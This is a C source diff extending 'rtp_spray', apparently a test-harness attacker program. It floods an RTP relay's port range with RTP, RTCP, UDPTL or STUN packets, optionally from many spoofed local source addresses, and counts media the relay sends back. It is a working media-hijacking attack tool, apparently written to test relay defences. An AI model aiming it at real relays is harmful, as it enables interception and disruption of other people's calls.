@@ -3,12 +3,16 @@
  * rtp_spray.c - the attacker: sends RTP and RTCP to a whole port range repeatedly, counts what it
  * receives
  *
- *   rtp_spray ADDRESS FIRST LAST PACKETS-PER-SECOND REPORT-FILE
+ *   rtp_spray ADDRESS FIRST LAST PACKETS-PER-SECOND REPORT-FILE [fax|stun|many]
  *
  * Each even port gets PCMU, as a phone sends it, each odd one a sender report, all from one socket:
- * a relay that takes the attacker for a phone sends the call to this socket. Ends on SIGTERM; the
- * report file is written ten times a second and at the end: "rounds=N sent=N heard=N".
+ * a relay that takes the attacker for a phone sends the call to this socket. With "fax" all get
+ * UDPTL, in each round the next number; with "stun" requests of STUN; with "many" each packet comes
+ * from another address and port of 198.51.100.128/25, all of which must be local (a route of type
+ * local). Ends on SIGTERM; the report file is written ten times a second and at the end: "rounds=N
+ * sent=N heard=N".
  */
+#include <arpa/inet.h>
 #include <errno.h>
 #include <inttypes.h>
 #include <poll.h>
@@ -25,9 +29,14 @@
 #define TICKS_S	     100
 #define REPORT_TICKS 10
 #define MOST_TICK    1000 /* packets */
+#define ADDRESS_OFF  16	  /* of the destination in an IPv4 header */
+
+#define MANY_FIRST (198u << 24 | 51u << 16 | 100u << 8 | 128)
+#define MANY	   126
 
 struct spray {
-	int fd;
+	int fd, ear; /* @ear: of all packets to this host; -1: none */
+	bool fax, stun, many;
 	struct sockaddr_storage relay;
 	socklen_t relay_len;
 	unsigned int first, last, at;
@@ -60,21 +69,52 @@ static void report_write(const struct spray *spray)
 		(void)!rename(part, spray->report);
 }
 
+static size_t packet_write(const struct spray *spray, uint8_t packet[RTP_PACKET])
+{
+	static const uint8_t request[] = { 0,	1,   0,	  0,   0x21, 0x12, 0xa4, 0x42, 'a', 't',
+					   't', 'a', 'c', 'k', 'e',  'r',  '!',	 '!',  '!', '!' };
+	const struct rtp_mark mark = { MARK_ATTACKER, spray->count, 0 };
+
+	memset(packet, 0xff, RTP_PACKET);
+	if (spray->stun) {
+		memcpy(packet, request, sizeof(request));
+		return sizeof(request);
+	}
+	if (spray->fax)
+		fax_mark_write(packet, mark);
+	else if (spray->at & 1)
+		return rtcp_mark_write(packet, MARK_ATTACKER, spray->count + 1);
+	else
+		rtp_mark_write(packet, 0, mark);
+	return RTP_PACKET;
+}
+
+/* A socket at another of many addresses and ports. -1: there is none */
+static int another_source(const struct spray *spray)
+{
+	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
+	struct sockaddr_in from = { .sin_family = AF_INET };
+
+	from.sin_addr.s_addr = htonl(MANY_FIRST + spray->count % MANY);
+	from.sin_port = htons((uint16_t)(1024 + spray->count * 7919u % 64000));
+	if (fd < 0 || !bind(fd, (struct sockaddr *)&from, sizeof(from)))
+		return fd;
+	close(fd);
+	return -1;
+}
+
 static void spray_one(struct spray *spray)
 {
+	int fd = spray->many ? another_source(spray) : spray->fd;
 	uint8_t packet[RTP_PACKET];
-	size_t len = sizeof(packet);
+	size_t len = packet_write(spray, packet);
 
-	if (spray->at & 1) {
-		len = rtcp_mark_write(packet, MARK_ATTACKER, spray->count + 1);
-	} else {
-		memset(packet, 0xff, sizeof(packet));
-		rtp_mark_write(packet, 0, (struct rtp_mark){ MARK_ATTACKER, spray->count, 0 });
-	}
 	((struct sockaddr_in *)&spray->relay)->sin_port = htons((uint16_t)spray->at);
-	if (sendto(spray->fd, packet, len, 0, (struct sockaddr *)&spray->relay, spray->relay_len) ==
+	if (sendto(fd, packet, len, 0, (struct sockaddr *)&spray->relay, spray->relay_len) ==
 	    (ssize_t)len)
 		spray->sent++;
+	if (fd >= 0 && fd != spray->fd)
+		close(fd);
 	if (spray->at++ == spray->last) {
 		spray->at = spray->first;
 		spray->rounds++;
@@ -88,6 +128,14 @@ static void spray_listen(struct spray *spray)
 
 	while (recv(spray->fd, packet, sizeof(packet), MSG_DONTWAIT) >= 0)
 		spray->heard++;
+	/* With its IP header: those to one of the many. */
+	while (spray->ear >= 0 &&
+	       recv(spray->ear, packet, sizeof(packet), MSG_DONTWAIT) > ADDRESS_OFF + 4) {
+		uint32_t to;
+
+		memcpy(&to, packet + ADDRESS_OFF, sizeof(to));
+		spray->heard += ntohl(to) - MANY_FIRST < MANY;
+	}
 }
 
 static void spray_run(struct spray *spray, int pacer, unsigned int per_tick)
@@ -114,13 +162,18 @@ int main(int argc, char **argv)
 {
 	struct itimerspec pace = { { 0, TICK_NS }, { 0, TICK_NS } };
 	struct sigaction term = { .sa_handler = on_term };
-	struct spray spray = { .fd = -1 };
+	struct spray spray = { .fd = -1, .ear = -1 };
+	const char *kind = argc == 7 ? argv[6] : "";
 	unsigned int per_tick;
 	int pacer;
 
-	if (argc != 6 || !peer_addr(argv[1], 0, &spray.relay)) {
-		fprintf(stderr,
-			"usage: rtp_spray ADDRESS FIRST LAST PACKETS-PER-SECOND REPORT-FILE\n");
+	spray.fax = !strcmp(kind, "fax");
+	spray.stun = !strcmp(kind, "stun");
+	spray.many = !strcmp(kind, "many");
+	if (argc < 6 || argc > 7 || !peer_addr(argv[1], 0, &spray.relay) ||
+	    spray.fax + spray.stun + spray.many != (argc == 7)) {
+		fprintf(stderr, "usage: rtp_spray ADDRESS FIRST LAST PACKETS-PER-SECOND "
+				"REPORT-FILE [fax|stun|many]\n");
 		return EXIT_FAILURE;
 	}
 	spray.relay_len = spray.relay.ss_family == AF_INET ? sizeof(struct sockaddr_in)
@@ -130,8 +183,10 @@ int main(int argc, char **argv)
 	per_tick = (unsigned int)strtoul(argv[4], NULL, 10) / TICKS_S;
 	spray.report = argv[5];
 	spray.fd = socket(spray.relay.ss_family, SOCK_DGRAM | SOCK_CLOEXEC, 0);
+	if (spray.many)
+		spray.ear = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_UDP);
 	pacer = timerfd_create(CLOCK_MONOTONIC, TFD_CLOEXEC);
-	if (spray.fd < 0 || pacer < 0 || per_tick > MOST_TICK ||
+	if (spray.fd < 0 || (spray.many && spray.ear < 0) || pacer < 0 || per_tick > MOST_TICK ||
 	    sigaction(SIGTERM, &term, NULL) < 0 || timerfd_settime(pacer, 0, &pace, NULL) < 0) {
 		perror("rtp_spray");
 		return EXIT_FAILURE;
